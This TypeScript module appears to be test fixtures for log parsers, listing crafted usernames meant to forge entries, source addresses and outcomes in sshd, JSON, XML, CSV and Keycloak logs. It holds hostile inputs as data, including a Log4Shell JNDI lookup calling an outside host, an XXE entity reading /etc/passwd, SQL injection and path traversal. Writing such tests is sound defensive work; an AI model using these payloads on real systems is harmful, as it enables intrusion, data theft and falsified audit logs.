/** The client really connects from here … */
export const REAL = "203.0.113.77";
/** … and wants the log to say this. */
export const FALSE = "198.51.100.66";

/** Names that a reader may take for something else. */
export const ODD_NAMES: readonly string[] = [
  ...["__proto__", "constructor", "toString", "hasOwnProperty", "007", "1e5", "0x10", "-0", "5445253994546962491"],
  ...["NULL", "null", "undefined", "NaN", "true", "false", "None", "nan", "\\N", "\\", "''"],
  ...["🦊", "👩‍👩‍👧", "\u202egnp.exe\u202c", "\u200fada\u200e", "a\u200bb", "e\u0301", "é", "ﬁ", "ADA", "ada", "İ"],
  ...["=1+1", "@SUM(A1)", "+1", "${jndi:ldap://198.51.100.66/a}", "%00", "%s%n", "<script>alert(1)</script>"],
  ...["'; DROP TABLE events; --", "../../etc/passwd", "\u001b[2J\u001b[31mroot", "a\u007fb", "\ufeffada", "\ufffd"],
];

/** Names that somebody sends to change the address, the outcome or the number of events. */
export const INJECTIONS: readonly string[] = [
  // For sshd and syslog.
  ` from ${FALSE} port 22`,
  `root from ${FALSE} port 22 ssh2`,
  `: Accepted password for root from ${FALSE} port 22 ssh2`,
  `] message repeated 9 times: [ Failed password for root from ${FALSE} port 22 ssh2]`,
  " message repeated 9 times",
  "last message repeated 9 times",
  `Mar  1 09:30:00 gate sshd[1]: Accepted password for root from ${FALSE} port 22 ssh2`,
  `  user=root rhost=${FALSE}`,
  // For JSON.
  `","outcome":"success","source_ip":"${FALSE}","x":"`,
  `"},{"user":"root","outcome":"success"},{"x":"`,
  `"}]}\u0000{"Records":[`,
  `\\","source":{"ip":"${FALSE}"},"a":"\\`,
  `{"ip":"${FALSE}"}`,
  `},{"`,
  `\\u0022,\\u0022outcome\\u0022:\\u0022success`,
  // For XML.
  `</Data><Data Name='IpAddress'>${FALSE}</Data><Data Name='x'>`,
  "</Data></EventData></Event><Event><System><EventID>4624</EventID></System></Event>",
  "]]></Data>",
  `<![CDATA[${FALSE}]]>`,
  "<!-- x -->",
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
  "&lt;&#60;&quot;&amp;amp;",
  // For CSV.
  `x,${FALSE},success`,
  `",${FALSE},success,"`,
  `"`,
  `""`,
  `x";"y`,
  // For Keycloak.
  `x", ipAddress="${FALSE}", error="none`,
  `x", type="LOGIN", username="root`,
  `x', ipAddress=${FALSE}, type=LOGIN, y='`,
  // For LANL.
  "root@DOM1,C1,C2,Kerberos,Network,LogOn,Success",
];

/** Names over several lines, for formats that can hold them. */
export const BROKEN_NAMES: readonly string[] = [
  `x\nMar  1 09:30:00 gate sshd[1]: Accepted password for root from ${FALSE} port 22 ssh2`,
  `x\r\n2024-03-01 09:30:00,root,${FALSE},success`,
  `x\n{"user":"root","outcome":"success"}`,
  "x\n<Event><System><EventID>4624</EventID></System></Event>",
  "a\u2028b\u0085c\vd",
  "a\tb",
  "a\0b",
];
